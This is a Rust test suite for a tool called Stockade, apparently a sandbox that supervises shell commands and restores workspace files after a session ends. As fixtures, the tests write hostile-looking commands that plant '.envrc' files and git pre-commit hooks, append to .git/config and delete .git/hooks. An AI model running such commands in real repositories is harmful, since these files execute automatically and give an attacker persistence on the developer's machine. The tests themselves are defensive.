        // The supervisor first; then all the rest, then Stockade, which would end by itself if it could see that.
        running.stop();
        for pid in descendants(running.pid()) {
            let _gone = kill(Pid::from_raw(pid), Signal::SIGKILL);
        }
        running.signal(Signal::SIGKILL);
        running.wait().exits(137);
        wait_until_gone(marker);
    }

    fn what_a_command_did_is_told_before_what_killed_helpers_left(world: &Fixture) {
        let marker = marker();
        let line = format!("for i in $(seq 80); do mkdir d$i; echo x > d$i/.envrc; done; exec sleep {marker}");
        kill_all_of(world, &line, &marker);
        let run = world
            .stockade(&["run", "--json", "-c", "echo x > .envrc"])
            .output()
            .exits(0);
        let outcome: Value = serde_json::from_str(&run.out()).unwrap();
        let own = world.workspace().join(".envrc");
        assert_eq!(outcome["restored"][0]["path"], own.to_str().unwrap(), "{outcome:#}");
    }

    fn what_killed_helpers_left_is_put_back_at_the_next_start(world: &Fixture) {
        repository(world);
        let config = fs::read(world.workspace().join(".git/config")).unwrap();
        change_and_kill(world);
        // Any start may have done it by now; after this one it is done.
        world.shell("cat .git/config").output().exits(0);
        assert!(!world.workspace().join(".envrc").exists());
        assert!(!world.workspace().join("d/.vscode/tasks.json").exists());
        assert_eq!(fs::read(world.workspace().join(".git/config")).unwrap(), config);
    }

    /// Fails unless a start after [`change_and_kill`] tells of all that it put back. Any start of the same person may have done so
    /// before, and have told so, which makes another round. Before and afterwards nothing is told.
    fn tells_what_it_put_back(world: &Fixture, start: impl Fn() -> String) {
        let names = [".envrc", "d/.vscode/tasks.json"].map(|name| world.workspace().join(name));
        let is_told = |told: String| names.iter().all(|name| told.contains(name.to_str().unwrap()));
        assert!(!is_told(start()));
        eventually("a start tells what it put back", || {
            change_and_kill(world);
            let told = start();
            assert!(names.iter().all(|name| !name.exists()));
            is_told(told)
        });
        assert!(!is_told(start()));
    }

    /// The supervisor is told before the config is held against the machine, and puts back what it finds.
    fn what_a_refused_start_put_back_is_told_all_the_same(world: &Fixture) {
        fs::create_dir(world.workspace().join("kept")).unwrap();
        let run = |form: &[&str]| {
            let deny = ["--preset", "workspace-write", "--deny", "kept", "--", "true"];
            world.stockade(&[&["run"], form, &deny].concat()).output().exits(125)
        };
        let text = || {
            let told = run(&[]).err();
            assert!(told.contains("Landlock cannot forbid"), "{told}");
            told
        };
        tells_what_it_put_back(world, text);
        tells_what_it_put_back(world, || {
            let refused = run(&["--json"]);
            let object: Value = serde_json::from_slice(&refused.stdout).unwrap();
            object["restored"].to_string()
        });
    }

    fn what_was_put_back_before_a_file_was_read_is_told(world: &Fixture) {
        world.write("plain", "x");
        let read = || {
            let call = ["call", "read_file", r#"{"path": "plain"}"#];
            world.stockade(&call).output().exits(0).out()
        };
        tells_what_it_put_back(world, read);
    }

    fn a_shut_workspace_and_objects_of_git_hide_nothing(world: &Fixture) {
        let mode = fs::metadata(world.workspace()).unwrap().mode();
        for bits in ["500", "000"] {
            let line = format!(
                "mkdir -p f/objects/3d f/objects/pack/app/.git/hooks f/refs; echo x > f/HEAD; \
                 echo evil > f/objects/pack/app/.git/hooks/pre-commit; echo evil > f/objects/3d/.envrc; \
                 echo evil > .envrc; chmod {bits} ."
            );
            let run = world.stockade(&["run", "--json", "-c", &line]).output();
            let list = restored(world, &run);
            for path in [
                ".envrc",
                "f/objects/3d/.envrc",
                "f/objects/pack/app/.git/hooks/pre-commit",
            ] {
                let full = world.workspace().join(path);
                assert!(
                    list.iter().any(|(one, _)| Path::new(one) == full),
                    "{path} is not in {list:?}"
                );
                assert!(!full.exists(), "{path}");
            }
            assert_eq!(fs::metadata(world.workspace()).unwrap().mode(), mode);
            // In namespaces what is left of it would not be written to again.
            fs::remove_dir_all(world.workspace().join("f")).unwrap();
        }
    }

    /// What lies in it could be changed unseen.
    fn a_directory_that_may_be_searched_and_not_listed_refuses_the_start(world: &Fixture) {
        // Only root can make one that is somebody else's.
        if !nix::unistd::geteuid().is_root() || world.actor.uid() == 0 {
            return;
        }
        let other = world.workspace().join("other");
        fs::create_dir_all(other.join("mine")).unwrap();
        std::os::unix::fs::chown(other.join("mine"), Some(world.actor.uid()), None).unwrap();
        let run = |mode| {
            fs::set_permissions(&other, fs::Permissions::from_mode(mode)).unwrap();
            world.shell("true").output()
        };
        let refused = run(0o711).exits(125);
        assert!(refused.err().contains("workspace/other"), "{}", refused.err());
        run(0o755).exits(0);
        // Nobody gets to what lies in this one.
        run(0o700).exits(0);
    }

    /// Whoever ends last: what the other's command did is nobody's state to keep.
    fn two_sessions_in_one_tree_do_not_keep_each_others_intruders(world: &Fixture) {
        repository(world);
        let config = fs::read(world.workspace().join(".git/config")).unwrap();
        let (first, second) = (marker(), marker());
        let line = format!("echo evil > .envrc; echo evil >> .git/config; rm -r .git/hooks; sleep {first}");
        let one = world.shell(&line).spawn();
        wait_for_processes(&first, 1);
        let two = world.shell(&format!("echo kept > kept; sleep {second}")).spawn();
        wait_for_processes(&second, 1);
        for session in [one, two] {
            session.signal_group(Signal::SIGINT);
            session.wait().exits(130);
            assert!(!world.workspace().join(".envrc").exists());
            assert_eq!(fs::read(world.workspace().join(".git/config")).unwrap(), config);
        }
        assert!(world.workspace().join("kept").exists() && world.workspace().join(".git/hooks").is_dir());
    }

    fn a_session_elsewhere_is_not_kept_from_starting(world: &Fixture) {
        let elsewhere = world.write(world.outside().join("w/file"), "x");
        let elsewhere = elsewhere.parent().unwrap().to_owned();
        let marker = marker();
        let line = format!("echo evil > .envrc; sleep {marker}");
        let running = world.shell(&line).spawn();
        wait_for_processes(&marker, 1);
        // Two sessions at a time, each with a journal of its own.
        let run = world
            .shell("echo evil > .envrc; echo ran")
            .cwd(&elsewhere)
            .output()
            .exits(0);
        assert!(run.err().contains("w/.envrc"), "{}", run.err());
        assert!(world.workspace().join(".envrc").exists());
        running.signal_group(Signal::SIGINT);
        running.wait().exits(130);
        assert!(!world.workspace().join(".envrc").exists());
    }

    fn a_changed_file_is_offered_as_a_difference(world: &Fixture) {
        let file = world.write(".bashrc", "one\ntwo\nthree\n");
        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
        let line = "sed -i s/two/2/ .bashrc; chmod 640 .bashrc";
        let steps = json!([["expect", "approve? "], ["send", "y\r"]]);
        let (_, shown) = world.play(&steps, &["run", "-c", line]);
        for part in ["-file, 14 bytes, mode 600", "+file, 12 bytes, mode 640", "-two", "+2"] {
            assert!(shown.contains(part), "{part} is not in {shown}");
        }
        assert_eq!(fs::read_to_string(&file).unwrap(), "one\n2\nthree\n");
        assert_eq!(fs::metadata(&file).unwrap().mode() & 0o7777, 0o640);
    }
}
